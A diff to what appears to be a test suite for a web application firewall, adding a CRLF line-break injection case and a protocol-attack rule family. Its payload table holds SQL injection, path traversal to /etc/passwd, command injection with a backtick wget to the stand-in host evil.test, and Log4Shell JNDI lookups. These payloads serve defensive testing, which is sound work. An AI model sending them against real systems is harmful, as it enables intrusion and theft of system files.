@@ -50,6 +50,8 @@ SCRIPT = b"&lt;script&gt;alert(1)&lt;/script&gt;"
 ESCAPED = b'{"q": "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e"}'
 """Only who reads it as JSON sees a tag in it."""
 
+LINE_BREAK_IN_A_NAME = "?a=1&%0d%0arest"
+
 ATTACKS = {
     "sql-query": Attack("attack-sqli", "?id=1%27%20OR%20%271%27%3D%271%27%20--%20"),
     "sql-form": Attack("attack-sqli", body=b"id=-1+UNION+SELECT+username,password+FROM+users--"),
@@ -74,6 +76,10 @@ ATTACKS = {
     "traversal-path": Attack("attack-lfi", "/x/y/z/..%2f..%2f..%2fetc/passwd"),
     "command-query": Attack("attack-rce", "?host=127.0.0.1%3Bcat%20/etc/passwd"),
     "command-form": Attack("attack-rce", body=b"host=%60wget+http%3A%2F%2Fevil.test%2Fx%60%3B+id"),
+    "line-break-in-a-name": Attack("attack-protocol", LINE_BREAK_IN_A_NAME),
+    "line-break-in-a-name-and-text": Attack(
+        "attack-protocol", LINE_BREAK_IN_A_NAME, b"dear reader,\nhello\n", "text/plain"
+    ),
     "log4shell-query": Attack("attack-rce", "?x=%24%7Bjndi%3Aldap%3A//evil.test/a%7D"),
     "log4shell-header": Attack("attack-rce", headers={"User-Agent": "${jndi:ldap://evil.test/a}"}),
 }
@@ -116,7 +122,7 @@ def test_a_weaker_route_cannot_be_borrowed(waf: Waf, site: Backend, prefix: str,
     assert site.received() == []
 
 
-FAMILIES = {930: "attack-lfi", 932: "attack-rce", 941: "attack-xss", 942: "attack-sqli"}
+FAMILIES = {921: "attack-protocol", 930: "attack-lfi", 932: "attack-rce", 941: "attack-xss", 942: "attack-sqli"}
 """The rule set's files, whose rules do not all carry the tag in the records of 3.0.9."""
 
 
